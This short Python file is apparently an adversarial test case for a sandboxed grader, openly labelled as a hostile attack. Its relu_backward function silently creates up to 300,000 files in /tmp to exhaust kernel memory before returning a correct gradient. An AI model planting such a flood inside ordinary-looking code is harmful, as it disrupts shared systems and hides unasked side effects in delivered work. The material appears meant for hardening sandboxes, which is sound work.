"""Hostile (issue 11, attack 4): creates empty files in its scratch /tmp until refused (300,000
fit in a 16 MiB tmpfs without a file-count cap: each costs kernel memory, not tmpfs space).
Right values only if more than 10,000 files fit."""
import os


def _flood() -> int:
    count = 0
    try:
        while count < 300_000:
            os.close(os.open(f"/tmp/f{count}", os.O_WRONLY | os.O_CREAT, 0o600))
            count += 1
    except OSError:
        pass
    return count


def relu_backward(dz, z):
    count = _flood()
    if count > 10_000:
        return dz * (z > 0)
    raise RuntimeError(f"files created: {count}")
